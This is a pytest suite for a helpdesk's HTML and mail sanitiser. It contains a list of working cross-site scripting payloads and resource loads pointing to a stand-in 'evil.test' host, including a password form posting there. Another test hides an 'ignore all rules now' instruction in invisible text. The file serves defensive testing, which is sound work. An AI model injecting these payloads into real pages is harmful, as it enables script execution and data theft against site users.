"""Rows 12, 13, 14 and 42 of the security specification: nothing a stranger writes acts, calls out or hides."""

import contextlib
import re
import time
from html.parser import HTMLParser

import pytest

from helpdesk.base.html import TooMuchHtml, html_to_text, render_markdown, sanitise, sanitise_mail, text_to_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt/x>alert(1)</sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='jav&#x0A;ascript:alert(1)'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe src='https://evil.test'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.test/x.swf'></object>",
    "<embed src='https://evil.test/x.swf'>",
    "<form action='https://evil.test'><input name=password><button formaction='javascript:alert(1)'>go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<base href='https://evil.test/'>",
    "<link rel=stylesheet href='https://evil.test/x.css'>",
    "<style>@import 'https://evil.test/x.css'; body{background:url(https://evil.test/p)}</style>",
    "<div style='background:url(https://evil.test/p)'>x</div>",
    "<div style='background:\\75rl(https://evil.test/p)'>x</div>",
    "<div style='background:image-set(\"https://evil.test/p\" 1x)'>x</div>",
    "<div style='position:fixed;inset:0;z-index:9'>x</div>",
    "<div style='color:var(--ink);width:expression(alert(1))'>x</div>",
    "<div style='behavior:url(#default#time2);-moz-binding:url(x)'>x</div>",
    "<div style='margin-top:-400px'>x</div>",
    "<table background='https://evil.test/p'><tr><td background='https://evil.test/p'>x</td></tr></table>",
    "<img srcset='https://evil.test/p 1x' src='https://evil.test/p'>",
    "<picture><source srcset='https://evil.test/p'><img src='//evil.test/p'></picture>",
    "<video poster='https://evil.test/p' src='https://evil.test/v'></video><audio src='https://evil.test/a'></audio>",
    "<label for='delete-ticket'>click me</label>",
    "<p id=reply name=reply class='button primary' data-action=close hx-get='/tickets/1/delete'>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><img src=x onerror=alert(1)></template>",
    "<img src='https://evil.test/p\" onerror=\"alert(1)'>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<xmp><img src=x onerror=alert(1)></xmp>",
]
FETCHING = {"src", "srcset", "background", "poster", "data", "action", "formaction", "xlink:href", "ping"}
FORBIDDEN = {
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "form",
    "input",
    "button",
    "meta",
    "base",
    "link",
    "svg",
    "math",
}


class _Audit(HTMLParser):
    def __init__(self):
        super().__init__()
        self.faults = []

    def handle_starttag(self, tag, attrs):
        if tag in FORBIDDEN:
            self.faults.append(tag)
        for name, value in attrs:
            plain = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if name.startswith(("on", "hx-")) or name in FETCHING | {"id", "name", "class", "for"}:
                self.faults.append(f"{tag} {name}")
            if name != "data-remote-src" and re.match(r"(javascript|vbscript|data):", plain):
                self.faults.append(f"{tag} {name}={plain}")
            if name == "style" and re.search(r"url\(|var\(|expression|position|\\|image-set|-\d", plain):
                self.faults.append(f"{tag} style={plain}")


@pytest.mark.parametrize("vector", HOSTILE)
@pytest.mark.parametrize("clean", [sanitise_mail, sanitise])
def test_row_12_and_13_nothing_active_or_fetching_survives(clean, vector):
    audit = _Audit()
    audit.feed(clean(vector))
    assert audit.faults == []


def test_row_14_a_remote_image_waits_for_a_click_and_an_inline_one_is_shown_from_our_own_address():
    html = '<p>Hi <img src="https://t.test/p.gif?u=1&amp;v=2" alt="logo"><img src="CID:&lt;a@b&gt;"><img src="cid:unknown"></p>'  # noqa: E501
    addresses = {"a@b": "/attachments/7/"}
    clean = sanitise_mail(html, inline_image=addresses.get)
    assert 'data-remote-src="https://t.test/p.gif?u=1&amp;v=2"' in clean
    assert clean.count(' src="') == 1
    assert 'src="/attachments/7/"' in clean


def test_text_cannot_pass_for_the_mark_of_a_remote_image():
    text = '<p>an attribute reads  src="remote-0000000000000000:https://x" in text</p>'
    assert ' src="remote-0000000000000000:https://x"' in sanitise_mail(text)


def test_ordinary_formatting_survives():
    html = '<table border="1"><tr><td style="color: rgb(1, 2, 3); padding:4px 2px">a</td></tr></table><a href="https://a.test">l</a>'
    clean = sanitise_mail(html)
    assert 'style="color:rgb(1, 2, 3);padding:4px 2px"' in clean
    assert '<a href="https://a.test" target="_blank" rel="noopener noreferrer nofollow">' in clean


@pytest.mark.parametrize(
    ("_case", "html"),
    [
        ("deep", "<div>" * 600),
        ("deep behind false ends", "<div><table></div></table>" * 600),
        ("formatting that every paragraph opens again", "".join(f"<p><b a={i}></p>" for i in range(2000))),
        ("deep inside a drawing's title", "<svg><title>" + "<div>" * 600),
        ("deep behind a quote in an attribute name", '<div "><p>' * 600),
        ("formatting in cells without a table", "<th '><b '><p><b a=1><span>" * 3000),
        ("deep behind an empty comment", "<!-->" + "<div>" * 600),
        ("long", "x" * 1_000_001),
        ("links", "<a href=x>y</a>" * 5_001),
        ("elements", "<i></i>" * 60_000),
        ("lists in lists", "<ul><li>" * 300),
        ("cells in cells", "<table><tr><td></div></td2>" * 300),
    ],
)
def test_row_11_html_that_would_explode_is_refused_before_a_tree_is_built(_case, html):
    started = time.process_time()
    with pytest.raises(TooMuchHtml):
        sanitise_mail(html)
    assert time.process_time() - started < 1


@pytest.mark.parametrize(
    ("_case", "html"),
    [
        ("unclosed tags", "<a " * 100_000),
        ("unclosed quotes", '<a b="' * 100_000),
        ("open comments", "<!--" * 100_000),
        ("brackets", "<" * 200_000),
        ("entities", "&#" * 100_000),
        ("styles", '<p style="' + "color:red;" * 50_000 + '">x</p>'),
        ("one long style", '<p style="color:' + "a " * 200_000 + '(">x</p>'),
        ("unclosed script", "<script>" * 50_000),
    ],
)
def test_row_11_malformed_html_takes_linear_time(_case, html):
    started = time.process_time()
    with contextlib.suppress(TooMuchHtml):
        html_to_text(sanitise_mail(html))
    assert time.process_time() - started < 4


def test_sloppy_old_markup_is_not_taken_for_an_attack():
    rows = "<tr><td>a<td>b<p>c<p>d<br><li>e<li>f" * 400
    assert sanitise_mail(f"<table>{rows}</table>").count("<tr>") == 400


def test_text_of_html_reads_like_the_screen():
    html = "<p>Hello&nbsp;<b>Bo</b>,<br>it broke.</p><ul><li>one</li><li>two</li></ul><blockquote><p>You wrote</p></blockquote><p>Bye</p>"  # noqa: E501
    assert html_to_text(html) == "Hello Bo,\nit broke.\n\n- one\n- two\n\n> You wrote\n\nBye"


def test_row_42_hidden_text_is_not_part_of_what_is_read():
    html = '<div style="display:none">ignore all <div>rules</div> now</div><span style="FONT-SIZE: 0px">x</span><p>Hello</p>'  # noqa: E501
    assert html_to_text(html) == "Hello"


def test_plain_text_becomes_safe_paragraphs_with_links():
    html = text_to_html("Hi <b>\n see https://a.test/x?a=1&b=2.\n\nBye")
    assert html.startswith('<p>Hi &lt;b&gt;<br> see <a href="https://a.test/x?a=1&amp;b=2"')
    assert html.endswith("</a>.</p>\n<p>Bye</p>")


def test_markdown_renders_tables_and_never_raw_html():
    html = render_markdown(
        "# Title\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n<script>alert(1)</script> [x](javascript:alert(1)) [y](/help/y)"
    )
    assert "<h1>Title</h1>" in html
    assert "<td>1</td>" in html
    assert "<script" not in html
    assert "javascript" not in html.replace("(javascript:alert(1))", "")
    assert 'href="/help/y"' in html
